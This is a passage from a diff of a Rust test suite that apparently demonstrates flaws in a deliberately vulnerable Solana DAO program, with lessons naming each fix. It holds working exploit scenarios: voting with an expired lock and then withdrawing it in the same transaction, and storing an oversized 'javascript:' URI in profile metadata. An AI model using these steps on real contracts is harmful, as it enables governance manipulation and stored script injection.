+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let proposer_token_account = dao.fund_tokens(&proposer.pubkey(), 1_000_000);
+        let (_, proposer_profile) = dao.create_profile(&proposer, "proposer");
+        dao.stake(&proposer, &proposer_profile, &proposer_token_account, 100).unwrap();
+
+        let attacker_token_account = dao.fund_tokens(&attacker.pubkey(), LOCKED_AMOUNT);
+        let (_, attacker_profile) = dao.create_profile(&attacker, "attacker");
+
+        let (vote_escrow, _) = derive_vote_escrow_pda(&dao.config_pda, &attacker.pubkey());
+        let escrow_token_account = get_associated_token_address(&vote_escrow, &dao.mint);
+        let lock_duration = MAX_LOCK_SECONDS / 2;
+        let lock_ix = lock_tokens_instruction(
+            &attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &vote_escrow,
+            &dao.mint,
+            &attacker_token_account,
+            &escrow_token_account,
+            LOCKED_AMOUNT,
+            lock_duration,
+        );
+        dao.send(lock_ix, &attacker).unwrap();
+        println!("[Step 1] Attacker locks {} tokens for half the maximum lock", LOCKED_AMOUNT);
+
+        advance_time(&mut dao.svm, lock_duration as u64 + 1);
+        println!("[Step 2] The lock's unlock time passes; its tokens are free to withdraw");
+
+        let admin = dao.admin.insecure_clone();
+        let (proposal_pda, _) = derive_proposal_pda(&dao.config_pda, 0);
+        let create_proposal_ix = create_governance_proposal_instruction(
+            &proposer.pubkey(),
+            &admin.pubkey(),
+            &dao.config_pda,
+            &proposer_profile,
+            &proposal_pda,
+            "Keep the treasury",
+        );
+        dao.send(create_proposal_ix, &proposer).unwrap();
+        println!("[Step 3] Proposer opens proposal 0 after the lock expired");
+
+        ExpiredLockState {
+            dao,
+            attacker,
+            attacker_profile,
+            attacker_token_account,
+            vote_escrow,
+            escrow_token_account,
+            proposal_pda,
+        }
+    }
+
+    fn exploit(&self, state: &mut ExpiredLockState) -> TransactionResult {
+        let dao = &mut state.dao;
+        let attacker = &state.attacker;
+        let (ballot, _) = derive_ballot_pda(&state.proposal_pda, &attacker.pubkey());
+
+        // EXPLOIT: Vote with the expired lock, then withdraw it in the same transaction
+        // In secure version the lock has no power at the proposal snapshot, so
+        // the ballot fails the minimum stake check
+        // In vulnerable version the slot estimate says a fifth of the lock remains
+        println!("\n[EXPLOIT] Attacker votes against with the expired lock and withdraws it");
+        let ballot_ix = cast_ballot_with_escrow_instruction(
+            &attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.attacker_profile,
+            &state.proposal_pda,
+            &ballot,
+            &state.vote_escrow,
+            false,
+        );
+        let withdraw_ix = withdraw_expired_lock_instruction(
+            &attacker.pubkey(),
+            &dao.admin.pubkey(),
+            &dao.config_pda,
+            &state.vote_escrow,
+            &dao.mint,
+            &state.attacker_token_account,
+            &state.escrow_token_account,
+        );
+
+        dao.send_all(&[ballot_ix, withdraw_ix], attacker)
+    }
+
+    fn assert_impact(&self, state: &mut ExpiredLockState) -> u64 {
+        let (_, votes_against, _) = get_proposal_tally(&state.dao.svm, &state.proposal_pda);
+        assert!(votes_against > 0, "VULNERABILITY: Expired lock counted on the proposal");
+
+        let balance = state.dao.token_balance(&state.attacker_token_account);
+        assert_eq!(balance, LOCKED_AMOUNT, "Attacker has every locked token back");
+
+        println!("[EXPLOIT] SUCCESS: {} votes against from a lock that had already expired", votes_against);
+        println!("[VULNERABILITY] Slot-based decay ran 20% behind the clock; the tokens were withdrawn in the same transaction");
+        println!("[VULNERABILITY] The same tokens can be relocked from another wallet and vote again");
+
+        votes_against
+    }
+}
 
-    let create_profile_ix2 =
-        create_profile_instruction(&user2.pubkey(), &user_registry, &user2_profile, username);
+#[test]
+fn test_exploit_slot_drift_lock_vote() {
+    run_exploit(&SlotDriftLockVote);
+}
 
-    let tx = Transaction::new_signed_with_payer(
-        &[create_profile_ix2],
-        Some(&user2.pubkey()),
-        &[&user2],
-        svm.latest_blockhash(),
-    );
+// Test 23: Demonstrate an unbounded metadata URI growing a profile
+// update_profile_metadata resizes the profile to fit whatever it is sent and
+// stores any scheme, so a script URI several times the secure cap is accepted
+struct UnboundedMetadataUri;
+
+// Secure build's MAX_METADATA_URI_LENGTH
+const SECURE_MAX_METADATA_URI_LENGTH: usize = 200;
+
+// About as much URI as fits in one transaction
+const METADATA_PAYLOAD_LEN: usize = 900;
+
+impl ExploitScenario for UnboundedMetadataUri {
+    type State = UsersState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V023",
+            title: "Unbounded Profile Metadata URI",
+            severity: Severity::Medium,
+            lesson: "Cap variable-length profile fields and allow only https:// or ipfs:// links",
+        }
+    }
+
+    fn setup(&self) -> UsersState {
+        let mut svm = setup_svm();
+        let bystander = create_funded_account(&mut svm, 10_000_000_000);
+        let attacker = create_funded_account(&mut svm, 10_000_000_000);
+
+        println!("[Setup] Attacker: {}", attacker.pubkey());
+
+        let (registry, _) = derive_user_registry_pda("attacker");
+        let (profile, _) = derive_user_profile_pda(&attacker.pubkey());
+        let create_profile_ix =
+            create_profile_instruction(&attacker.pubkey(), &registry, &profile, "attacker");
+
+        let tx = Transaction::new_signed_with_payer(
+            &[create_profile_ix],
+            Some(&attacker.pubkey()),
+            &[&attacker],
+            svm.latest_blockhash(),
+        );
+        svm.send_transaction(tx).unwrap();
+
+        let profile_len = svm.get_account(&profile).unwrap().data.len();
+        println!("[Step 1] Attacker profile created ({} bytes)", profile_len);
+
+        UsersState { svm, first: bystander, second: attacker }
+    }
+
+    fn exploit(&self, state: &mut UsersState) -> TransactionResult {
+        let svm = &mut state.svm;
+        let attacker = &state.second;
+        let (attacker_profile, _) = derive_user_profile_pda(&attacker.pubkey());
+
+        // EXPLOIT: A script URI 4.5x the secure cap
+        // In secure version anything over MAX_METADATA_URI_LENGTH, or not
+        // https:// or ipfs://, is rejected
+        let payload = format!("javascript:alert(1)//{}", "A".repeat(METADATA_PAYLOAD_LEN - 21));
+        println!("\n[EXPLOIT] Attacker sets a {} byte javascript: URI", payload.len());
+
+        let update_ix =
+            update_profile_metadata_instruction(&attacker.pubkey(), &attacker_profile, Some(&payload));
+
+        let tx = Transaction::new_signed_with_payer(
+            &[update_ix],
+            Some(&attacker.pubkey()),
+            &[attacker],
+            svm.latest_blockhash(),
+        );
+
+        svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut UsersState) -> u64 {
+        let (attacker_profile, _) = derive_user_profile_pda(&state.second.pubkey());
+        let account = state.svm.get_account(&attacker_profile).unwrap();
+
+        let over_cap = (METADATA_PAYLOAD_LEN - SECURE_MAX_METADATA_URI_LENGTH) as u64;
+        assert!(account.data.ends_with(b"AAAA"), "Payload stored at the end of the profile");
+        assert!(
+            account.data.windows(11).any(|bytes| bytes == b"javascript:"),
+            "Script scheme stored as-is"
+        );
+
+        println!("[EXPLOIT] SUCCESS: Profile grew to {} bytes", account.data.len());
+        println!("[VULNERABILITY] URI is {} bytes over the secure cap; every instruction loading the profile pays for it", over_cap);
+
+        over_cap
+    }
+}
 
-    // This succeeds because init_if_needed allows reusing registry
-    // and vulnerable code doesn't check if registry.claimed is true
-    let result = svm.send_transaction(tx);
-    assert!(result.is_ok(), "VULNERABILITY: Second user overwrote username registry");
+#[test]
+fn test_exploit_unbounded_metadata_uri() {
+    run_exploit(&UnboundedMetadataUri);
 }